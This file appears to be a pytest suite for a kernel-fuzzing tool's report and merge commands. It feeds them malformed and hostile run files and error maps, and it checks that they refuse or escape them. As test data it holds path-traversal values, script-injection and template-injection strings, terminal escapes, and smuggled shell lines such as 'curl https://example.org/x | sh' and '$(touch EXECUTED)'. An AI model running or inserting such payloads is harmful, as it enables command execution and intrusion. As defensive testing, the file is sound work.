"""Run files and error maps of which somebody else chose every byte, as from a corpus that CI takes from a cache."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from support.hostile_files import NO_FILES, apart, attnfuzz, digits, nested, refused, written
from support.report import failure, kernel_record, record

from attnfuzz.harness.judge.errormap import FORMAT, OUTSIDE, Axis, Grid, OutputMap, packed, read_maps
from attnfuzz.kernels.errors import BadArgument

RUN = "out/runs/20260101T000000Z-1-a.json"
OTHER = "20260101T000001Z-1-b"


@pytest.fixture(autouse=True)
def _apart(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with apart(tmp_path, monkeypatch):
        for each in ("runs", "maps", "cases"):
            (Path("out") / each).mkdir(parents=True)
        yield


def run(**changed: Any) -> dict[str, Any]:
    """A sound record, with changes."""
    sound: dict[str, Any] = msgspec.to_builtins(record(kernels=[kernel_record()], failures=[failure()]))
    return {**sound, **changed}


def kernel(**changed: Any) -> dict[str, Any]:
    return run(kernels=[{**msgspec.to_builtins(kernel_record()), **changed}])


def failed(**changed: Any) -> dict[str, Any]:
    return run(failures=[{**msgspec.to_builtins(failure()), **changed}])


def output(**changed: Any) -> dict[str, Any]:
    return kernel(outputs={"o": {"cases": 3, **changed}})


BROKEN: dict[str, Any] = {
    "empty": b"",
    "cut off": written(run())[:100],
    "not UTF-8": b'{"format": 1, "stamp": "\xff"}',
    "200,000 brackets": b"[" * 200_000,
    "a list": [run()],
    "an object without a version": {},
    "another version": run(format=2),
    "a version of 400 digits": run(format=digits(400)),
    "a version of 5,000 digits": run(format=digits(5000)),
    "a stamp that leaves the folder": run(stamp="../../../evil"),
    "a stamp that is a path": run(stamp="/tmp/evil"),
    "a stamp with a NUL": run(stamp="x\0"),
    "a stamp of 300 letters": run(stamp="x" * 300),
    "a stamp that is hidden": run(stamp=".x"),
    "no kernels but a number": run(kernels=3),
    "a case 900 objects deep": failed(case=nested(900, "{}")),
    "settings 900 deep": run(settings={"a": nested(900)}),
    "a negative count": kernel(drawn={"dtype": {"a": -1, "b": 2}}),
    "a count of 400 digits": kernel(cases=digits(400)),
    "a count of 30 digits": kernel(features={"x": digits(30)}),
    "a negative time": kernel(seconds=-1.0),
    "an endless time": run(seconds=1e300),
    "a histogram of another length": output(histogram=[1, 2, 3]),
    "a histogram of negative counts": output(histogram=[-1] * 27),
    "a state of no kind": run(state="hacked"),
    "an error of a number as text": output(worst="1e5"),
    "a rate of 400 digits": failed(rate=[digits(400), 1]),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_run_file_is_left_out_and_named(name: str) -> None:
    content = BROKEN[name]
    Path(RUN).write_bytes(content if isinstance(content, bytes) else written(content))
    refused(attnfuzz("merge", "all", "out"), f"run={RUN!r}: ")
    Path(f"out/runs/{OTHER}.json").write_bytes(written(run(stamp=OTHER)))
    assert_left_out(RUN)
    assert not list(Path.cwd().parent.glob("evil*"))


def assert_left_out(path: str) -> None:
    """The page has what can be read, and says what cannot."""
    result = attnfuzz("report", "out", "--pictures", "1")
    assert result.exit_code == 0, result.output
    assert f"warning: left out: run={path!r}: " in result.stderr
    page = Path("out/report.html").read_text(encoding="utf-8")
    assert "Left out, since it cannot be read: run=" in page
    assert "1 failure in 1 of 1 kernel" in page


@pytest.mark.parametrize("name", NO_FILES)
def test_what_is_no_file_is_left_out_of_a_report_and_named(name: str) -> None:
    make, reason = NO_FILES[name]
    make(Path(RUN).absolute())
    refused(attnfuzz("report", "out"), reason)  # none can be read
    Path(f"out/runs/{OTHER}.json").write_bytes(written(run(stamp=OTHER)))
    assert_left_out(RUN)


SHOWN: dict[str, Any] = {
    "counts of zero": kernel(drawn={"dtype": {"a": 0, "b": 0}, "check": {"x": 0}}, features={"x": 0}),
    "no counts": kernel(drawn={"dtype": {}, "packing": {}}),
    "the largest counts": kernel(cases=2**53, drawn={"dtype": {"a": 2**53, "b": 1}}, seconds=1e12),
    "a time near zero": kernel(seconds=5e-324, cases=2**53),
    "a case 150 objects deep": failed(case=nested(150, "{}")),
    "a path of 10,000 letters": failed(path="x" * 10_000, maps="y" * 10_000),
    "a path with a NUL": failed(path="x\0y", maps="x\0y", first_maps="x\0y"),
    "a path that leaves the folder": failed(path="/etc/../etc/passwd", maps="../../../../etc/passwd"),
    "maps that are the folder": failed(maps=".."),
    "texts of control characters": failed(title="\x1b[2J\x07\u202e", messages=["\0\x1b]0;x\x07"], detail="\x9b"),
    "markup": failed(title="<script>alert(1)</script>", messages=["</pre><img src=x onerror=alert(1)>"], pattern="{{ 7*7 }}"),
    "markup in names": kernel(kernel="</th><script>alert(1)</script>", drawn={"<b>": {"<i>": 1, "<u>": 2}}, stages={"<s>": 1.0}),
    "markup in settings": run(settings={"<script>": "</dd><script>alert(1)</script>"}, environment={"device": "<script>"}),
    "versions in a list": run(environment={"versions": [1, 2]}),
    "versions of numbers": run(environment={"versions": {"torch": 2}, "cores": {"a": []}, "device": [1], "unchecked": {}}),
    "a shard of words": run(settings={"shard": "x", "shards": {"y": 1}}),
    "an unknown output": kernel(outputs={"os.system": {"cases": 1}}),
    "a hundred kernels": run(kernels=[{"kernel": f"k{number}", "cases": 3} for number in range(100)]),
}


@pytest.mark.parametrize("name", SHOWN)
def test_an_odd_run_file_is_shown_as_text(name: str) -> None:
    Path(RUN).write_bytes(written(SHOWN[name]))
    for command in (("report", "out", "--json"), ("merge", "all", "out"), ("merge", "all", "out", "--json")):
        result = attnfuzz(*command)
        assert result.exit_code in (0, 1, 2), result.output
        assert "error: " not in result.stderr, result.stderr
    page = Path("out/report.html").read_text(encoding="utf-8")
    assert page.count("<script>") == 1, "its own"
    assert "<img src=x" not in page
    assert "passwd" not in "".join(str(each) for each in Path("all").rglob("*"))


LINES: dict[str, str] = {
    "another command": "curl https://example.org/x | sh",
    "a second command": "attnfuzz repro out/cases/x.json; touch EXECUTED",
    "a substitution": "attnfuzz repro $(touch EXECUTED)",
    "an option": "attnfuzz repro --script=/etc/passwd",
    "a plugin of pytest": "pytest -p --attnfuzz-case x",
    "a redirection": "attnfuzz repro x > /etc/passwd",
    "two lines": "attnfuzz repro x\ntouch EXECUTED",
    "an open quote": "attnfuzz repro 'x",
    "a million letters": "attnfuzz repro " + "x" * 1_000_000,
}


@pytest.mark.parametrize("name", LINES)
def test_a_line_to_copy_is_one_of_ours_or_none(name: str) -> None:
    Path(RUN).write_bytes(written(failed(repro=LINES[name], path=None)))
    assert attnfuzz("report", "out").exit_code == 0
    assert '<div class="repro">' not in Path("out/report.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "line",
    [
        "attnfuzz repro out/cases/x.json",
        "attnfuzz repro 'my cases/x.json' --kernel a.b:C",
        "pytest t.py::test_k --attnfuzz-case x",
    ],
)
def test_our_own_line_to_copy_is_kept(line: str) -> None:
    Path(RUN).write_bytes(written(failed(repro=line, path=None)))
    assert attnfuzz("report", "out").exit_code == 0
    assert '<div class="repro">' in Path("out/report.html").read_text(encoding="utf-8")


def test_the_page_follows_no_link_out_of_its_folder() -> None:
    Path(RUN).write_bytes(written(run()))
    Path("mine").write_text("mine")
    page = Path("out/report.html")
    page.symlink_to(Path("mine").absolute())
    refused(attnfuzz("report", "out"), "output='out/report.html': it is a link")
    assert Path("mine").read_text() == "mine"
    page.unlink()
    page.mkdir()
    refused(attnfuzz("report", "out"), "output='out/report.html': ")


def grid(rows: Any = (3,), columns: Any = (4,), cells: str | None = None, **axis: Any) -> dict[str, Any]:
    text = packed(bytes(12)) if cells is None else cells
    return {"rows": {"segments": rows, **axis}, "columns": {"segments": columns}, "cells": text}


def maps(**changed: Any) -> dict[str, Any]:
    one = {"output": "o", "grid": grid(), "elements": 12, "over": 1, "worst": 2.0}
    return {"format": FORMAT, "case": {}, "id": "0123456789", "outputs": [one], **changed}


def mapped(**changed: Any) -> dict[str, Any]:
    return maps(outputs=[{**maps()["outputs"][0], **changed}])


MAPS: dict[str, Any] = {
    "empty": b"",
    "a list": [],
    "another version": maps(format=7),
    "true for a version": maps(format=True),
    "a version of 5,000 digits": maps(format=digits(5000)),
    "200,000 brackets": b"[" * 200_000,
    "a case 900 objects deep": maps(case=nested(900, "{}")),
    "levels that are not base64": mapped(grid=grid(cells="%%")),
    "levels that are not deflated": mapped(grid=grid(cells="QUFB")),
    "a gigabyte of levels": mapped(grid=grid(cells=packed(bytes(1 << 24)))),
    "too few levels": mapped(grid=grid(cells=packed(b""))),
    "a side of a million cells": mapped(grid=grid(rows=[1_000_000])),
    "100,000 empty segments": mapped(grid=grid(rows=[0] * 100_000, cells=packed(b""))),
    "a side of 400 digits": mapped(grid=grid(rows=[digits(400)], step=digits(400))),
    "a negative side": mapped(grid=grid(rows=[-3])),
    "a step of zero": mapped(grid=grid(step=0)),
    "a negative tile": mapped(tile=-1),
    "a tile of 400 digits": mapped(tile=digits(400)),
    "counts of 400 digits": mapped(over=digits(400), elements=digits(400)),
    "a thousand pictures": maps(outputs=maps()["outputs"] * 1000),
    "an unknown output": mapped(output="os.system"),
    "tiles of 400 digits": maps(tiles=[digits(400), 1]),
}


@pytest.mark.parametrize("name", MAPS)
def test_broken_error_maps_cost_their_picture_only(name: str) -> None:
    content = MAPS[name]
    path = Path("out/maps/0123456789.json")
    path.write_bytes(content if isinstance(content, bytes) else written(content))
    Path(RUN).write_bytes(written(failed(maps="maps/0123456789.json")))
    with pytest.raises(BadArgument, match=r"^maps='out/maps/0123456789\.json': "):
        read_maps(path)
    result = attnfuzz("report", "out")
    assert result.exit_code == 0, result.output
    assert "0 pictures" in result.stdout
    assert "no picture: maps='out/maps/0123456789.json': " in result.stdout
    merged = attnfuzz("merge", "all", "out")
    assert "left out: maps='out/maps/0123456789.json': " in merged.stdout
    assert not list(Path("all").glob("maps/*"))


@pytest.mark.parametrize("name", NO_FILES)
def test_error_maps_that_are_no_file_cost_their_picture_only(name: str) -> None:
    make, reason = NO_FILES[name]
    make(Path("out/maps/0123456789.json").absolute())
    Path(RUN).write_bytes(written(failed(maps="maps/0123456789.json")))
    result = attnfuzz("report", "out")
    assert (result.exit_code, reason in result.stdout) == (0, True), result.output
    assert reason in attnfuzz("merge", "all", "out").stdout
    assert reason in json.loads(attnfuzz("merge", "all", "out", "--json").stdout)["left_out"][0]


ODD_MAPS: dict[str, Callable[[], dict[str, Any]]] = {
    "a title of control characters": lambda: maps(id="\x1b[2J\n"),
    "a case that is none": lambda: maps(case={"format": 1, "kernel": "x"}),
    "a case 150 objects deep": lambda: json.loads(written(maps(case=nested(150, "{}")))),
    "levels that mean nothing": lambda: mapped(grid=grid(cells=packed(bytes([255] * 12)))),
    "tiles of a sequence without end": lambda: mapped(grid=grid(rows=[2**50], step=2**50, columns=[12]), tile=1),
    "a worst error of infinity": lambda: mapped(worst="inf"),
    "no outputs": lambda: maps(outputs=[]),
    "a mask of its own form": lambda: maps(mask=grid(cells=packed(bytes([OUTSIDE] * 12))), tiles=[1, 1]),
}


@pytest.mark.parametrize("name", ODD_MAPS)
def test_odd_error_maps_are_drawn(name: str) -> None:
    pytest.importorskip("matplotlib")
    Path("out/maps/0123456789.json").write_bytes(written(ODD_MAPS[name]()))
    Path(RUN).write_bytes(written(failed(maps="maps/0123456789.json", title="$\\frac{1}{0}$ \x1b")))
    result = attnfuzz("report", "out")
    assert (result.exit_code, "1 picture" in result.stdout) == (0, True), result.output


def test_sound_maps_are_read() -> None:
    path = Path("out/maps/0123456789.json")
    path.write_bytes(written(maps()))
    levels = Grid(rows=Axis(segments=(3,)), columns=Axis(segments=(4,)), cells=packed(bytes(12)))
    expected = OutputMap(output="o", grid=levels, elements=12, over=1, worst=2.0)
    assert read_maps(path).outputs == (expected,)
